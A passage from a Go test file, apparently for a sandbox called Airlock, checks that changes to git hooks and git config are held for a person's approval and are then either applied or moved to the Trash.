				t.Errorf(".git/config was changed before the person answered: %q", got)
			}
			for _, rel := range wantApplied {
				if r := record(t, a, l.doc(rel)); r.Status != execute.ChangeApplied || r.Held {
					t.Errorf("%s: %+v, want applied", rel, r)
				}
			}
			if got := readFile(t, l.doc("proj/conf/a.txt")); got != "conf a" {
				t.Errorf("conf/a.txt = %q", got)
			}
			keep := make([]bool, len(held.Items))
			for i, h := range held.Items {
				keep[i] = mode == "keep all" || mode == "keep some" && strings.HasSuffix(h.Change.Path, "hooks")
			}
			if _, err := held.Resolve(context.Background(), keep[1:]); err == nil {
				t.Errorf("Resolve took too few answers")
			}
			r, err := held.Resolve(context.Background(), keep)
			if err != nil {
				t.Fatal(err)
			}
			if _, err := held.Resolve(context.Background(), keep); err == nil {
				t.Errorf("Resolve ran twice")
			}
			for i, h := range held.Items {
				for _, c := range append([]sbx.Change{h.Change}, h.Inside...) {
					rec := record(t, r, c.Path)
					if !rec.Held {
						t.Errorf("%s is not recorded as held", c.Path)
					}
					_, lerr := os.Lstat(c.Path)
					switch {
					case keep[i] && rec.Status != execute.ChangeApplied:
						t.Errorf("kept %s: %+v", c.Path, rec)
					case keep[i] && lerr != nil:
						t.Errorf("kept %s is not there: %v", c.Path, lerr)
					case !keep[i] && (rec.Status != execute.ChangeDiscarded || !strings.Contains(rec.Discarded, "/Discarded by Airlock (request r1, action 1)/Documents/proj/")):
						t.Errorf("discarded %s: %+v", c.Path, rec)
					case !keep[i]:
						if _, err := os.Lstat(rec.Discarded); err != nil {
							t.Errorf("discarded %s is not in the Trash: %v", c.Path, err)
						}
					}
				}
			}
			hook := l.doc("proj/.git/hooks/pre-commit")
			if st, err := os.Stat(hook); keep[0] && (err != nil || st.Mode().Perm() != 0o755) {
				t.Errorf("the kept hook: %v, %v", st, err)
			}
			if !keep[1] && readFile(t, l.doc("proj/.git/config")) != "[core]\n" {
				t.Errorf("the discarded config was applied")
			}
		})
	}
}
